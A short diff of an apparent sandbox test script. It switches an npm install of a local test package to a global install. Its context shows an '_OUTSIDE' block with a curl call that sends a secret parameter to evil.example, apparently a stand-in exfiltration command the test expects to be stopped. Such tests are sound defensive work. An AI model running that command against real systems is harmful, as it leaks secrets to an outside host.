@@ -20,8 +20,8 @@ v/bin/pip install -q --disable-pip-version-check --trusted-host packages.test \
     --index-url {url}/simple tiny
 v/bin/python -c 'import tiny; print(tiny.WORD)'
 git clone -q {url}/tiny.git && cat tiny/README
-npm install --silent --no-audit --no-fund {url}/tiny-1.0.0.tgz >/dev/null
-node -e 'console.log(require("tiny"))'
+npm install --global --silent --no-audit --no-fund {url}/tiny-1.0.0.tgz >/dev/null
+node -e 'console.log(require(process.env.HOME + "/.local/lib/node_modules/tiny"))'
 """
 _OUTSIDE = """
 curl -sS http://evil.example/?secret=1
